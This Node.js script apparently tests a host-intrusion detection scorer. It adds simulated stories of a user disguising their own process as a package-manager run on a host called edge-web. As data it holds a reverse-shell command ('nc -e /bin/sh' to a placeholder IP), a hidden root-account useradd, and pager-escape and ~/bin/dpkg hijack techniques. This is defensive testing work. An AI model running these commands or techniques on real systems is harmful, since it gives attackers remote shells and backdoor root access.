// node scripts/package-run-mimicry.js ROOT (review13, docs/hardening.md): the scenario set (seed
// 11, 21 days) plus one story per way a local user, or one with sudo, might bring their own
// process into a package manager's run (`run=package-manager`, values counted half): ops on
// edge-web in a fresh office SSH session, each story's last exec labelled, a control without the
// trick first. ROOT is a built worktree (compare builds of two commits). Prints each labelled row.
const root = require('path').resolve(process.argv[2]);
const path = require('path');
const { scoreStories } = require('./lib/mimicry-run');
const { generateScenarios } = require(root + '/dist/scorer/eval/scenarios/generate');
const { ATTACKS } = require(root + '/dist/scorer/eval/scenarios/stories');
const rootIds = { uid: '0', euid: '0' };
const NC = ['/usr/bin/nc', 'nc -e /bin/sh 203.0.113.9 4444'];
const USERADD = ['/usr/sbin/useradd', 'useradd -o -u 0 -m svc'];
// [title, play(h, t, sh) returning [parent pid, ids] of the labelled row, the labelled program]
const T = [
  ['control: nc from the login shell', (h, t, sh) => [sh, {}], NC],
  ['control: sudo useradd', (h, t, sh) => [h.exec(t + 20, 'ops', '/usr/bin/sudo', 'sudo useradd -o -u 0 -m svc', sh, { euid: '0' }), rootIds], USERADD],
  ['nc below ~/bin/dpkg of the user', (h, t, sh) => [h.exec(t + 20, 'ops', '/home/ops/bin/dpkg', 'dpkg', sh), {}], NC],
  [
    'useradd below sudo ~/bin/dpkg',
    (h, t, sh) => {
      const sudo = h.exec(t + 20, 'ops', '/usr/bin/sudo', 'sudo /home/ops/bin/dpkg', sh, { euid: '0' });
      return [h.exec(t + 21, 'ops', '/home/ops/bin/dpkg', '/home/ops/bin/dpkg', sudo, rootIds), rootIds];
    },
    USERADD,
  ],
  [
    "nc typed at apt-get changelog's pager shell",
    (h, t, sh) => {
      const apt = h.exec(t + 20, 'ops', '/usr/bin/apt-get', 'apt-get changelog bash', sh);
      const less = h.exec(t + 21, 'ops', '/usr/bin/less', 'less', apt);
      return [h.exec(t + 30, 'ops', '/bin/sh', 'sh', less), {}];
    },
    NC,
  ],
  [
    "useradd typed at sudo apt-get changelog's pager shell",
    (h, t, sh) => {
      const sudo = h.exec(t + 20, 'ops', '/usr/bin/sudo', 'sudo apt-get changelog bash', sh, { euid: '0' });
      const apt = h.exec(t + 21, 'ops', '/usr/bin/apt-get', 'apt-get changelog bash', sudo, rootIds);
      const less = h.exec(t + 22, 'ops', '/usr/bin/less', 'less', apt, rootIds);
      return [h.exec(t + 30, 'ops', '/bin/sh', 'sh', less, rootIds), rootIds];
    },
    USERADD,
  ],
  [
    "nc below a pid a root dpkg had (the user's fork took it again)",
    (h, t) => [h.exec(t - 600, null, '/usr/bin/dpkg', '/usr/bin/dpkg --configure --pending', '1', rootIds), {}],
    NC,
  ],
];
T.forEach(([title, play, [exe, cmd]], i) =>
  ATTACKS.push({
    id: `r13-${i}`,
    title,
    host: 'edge-web',
    day: i % 2,
    play(h, t) {
      h.login(t, 'ops', '10.40.8.44');
      const sh = h.session(t, 'ops');
      const [parent, ids] = play(h, t, sh);
      h.exec(t + 60, 'ops', exe, cmd, parent, { story: this.id, ...ids });
    },
  }),
);
(async () => {
  const out = '/tmp/r13/run-' + path.basename(root);
  const set = generateScenarios({ seed: 11, days: 21, start: 1767225600 });
  await scoreStories(root, out, set, 'r13-', (n) => T[n][0].slice(0, 56).padEnd(56));
})().catch((e) => {
  console.error(e);
  process.exit(1);
});
